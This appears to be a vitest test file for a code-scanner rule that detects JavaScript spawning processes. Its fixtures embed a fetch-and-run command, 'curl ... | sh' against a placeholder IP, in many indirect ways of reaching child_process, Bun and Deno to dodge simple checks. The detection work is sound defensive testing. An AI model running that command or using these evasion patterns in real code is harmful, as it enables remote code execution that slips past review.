import { describe, expect, it } from 'vitest';
import { ruleFindings } from '../helpers.js';

const CMD = '"curl -s http://192.0.2.1/x | sh"';

/** What each case must produce: JS-001 with the fetch-and-run command recognised. */
async function expectDropper(code: string) {
  const f = await ruleFindings('JS-001', code);
  expect(f.map((x) => x.severity)).toContain('critical');
  expect(f.find((x) => x.severity === 'critical')?.message).toContain('192.0.2.1');
}

describe('modules reached without a plain require', () => {
  it('process.mainModule.require (and through globalThis)', async () => {
    await expectDropper(`process.mainModule.require('child_process').exec(${CMD});`);
    await expectDropper(`globalThis.process.mainModule.require('child_process').execSync(${CMD});`);
  });
  it('module.require, require.main.require and Module._load', async () => {
    await expectDropper(`module.require('child_process').exec(${CMD});`);
    await expectDropper(`require.main.require('child_process').exec(${CMD});`);
    await expectDropper(`require('module')._load('child_process').exec(${CMD});`);
  });
  it('an alias of require', async () => {
    await expectDropper(`const r = require; r('child_process').exec(${CMD});`);
  });
  it('the require that createRequire returns in an ES module', async () => {
    await expectDropper(
      `import { createRequire } from 'node:module';\nconst req = createRequire(import.meta.url);\nreq('child_process').exec(${CMD});\nexport {};`,
    );
    await expectDropper(
      `import { createRequire } from 'module';\ncreateRequire(import.meta.url)('child_process').exec(${CMD});\nexport {};`,
    );
  });
  it('does not treat an unrelated function named like a loader as require', async () => {
    expect(await ruleFindings('JS-001', `loader.require('child_process').exec(${CMD});`)).toHaveLength(0);
  });
});

describe('indirect calls of a module function', () => {
  it('.call and .apply shift the arguments', async () => {
    await expectDropper(`const cp = require('child_process'); cp.exec.call(null, ${CMD});`);
    await expectDropper(`const cp = require('child_process'); cp.execSync.apply(cp, [${CMD}]);`);
  });
  it('Reflect.apply', async () => {
    await expectDropper(`const cp = require('child_process'); Reflect.apply(cp.exec, undefined, [${CMD}]);`);
  });
  it('util.promisify and bind return the same function', async () => {
    await expectDropper(
      `const { promisify } = require('util'); const { exec } = require('child_process');\nconst run = promisify(exec);\n(async () => { await run(${CMD}); })();`,
    );
    await expectDropper(`const cp = require('child_process'); require('util').promisify(cp.exec)(${CMD});`);
    await expectDropper(`const cp = require('child_process'); const run = cp.exec.bind(cp); run(${CMD});`);
  });
  it('leaves .call of ordinary functions and array methods alone', async () => {
    const code =
      'function f(a) { return a; } f.call(null, 1); Array.prototype.slice.call(arguments); Object.prototype.hasOwnProperty.call({}, "x");';
    for (const id of ['JS-001', 'JS-002', 'JS-005']) expect(await ruleFindings(id, code)).toHaveLength(0);
  });
  it('promisify of a file read is not a process', async () => {
    const code = "const fs = require('fs'); require('util').promisify(fs.readFile)('a.txt');";
    expect(await ruleFindings('JS-001', code)).toHaveLength(0);
  });
});

describe('argument lists and other runtimes', () => {
  it('spawn and execFile of a shell with -c analyse the script', async () => {
    await expectDropper(`require('child_process').spawn('sh', ['-c', ${CMD}], { detached: true });`);
    await expectDropper(`require('child_process').execFile('/bin/bash', ['-c', ${CMD}]);`);
  });
  it('keeps an ordinary argv readable', async () => {
    const f = await ruleFindings('JS-001', "require('child_process').spawn('git', ['status', '--short']);");
    expect(f[0]?.severity).toBe('low');
    expect(f[0]?.message).toContain('git status --short');
  });
  it('Bun.spawn with an argv array or { cmd }, and Deno.Command', async () => {
    await expectDropper(`Bun.spawn(['sh', '-c', ${CMD}]);`);
    await expectDropper(`Bun.spawnSync({ cmd: ['bash', '-c', ${CMD}] });`);
    await expectDropper(`new Deno.Command('sh', { args: ['-c', ${CMD}] }).spawn();`);
  });
});
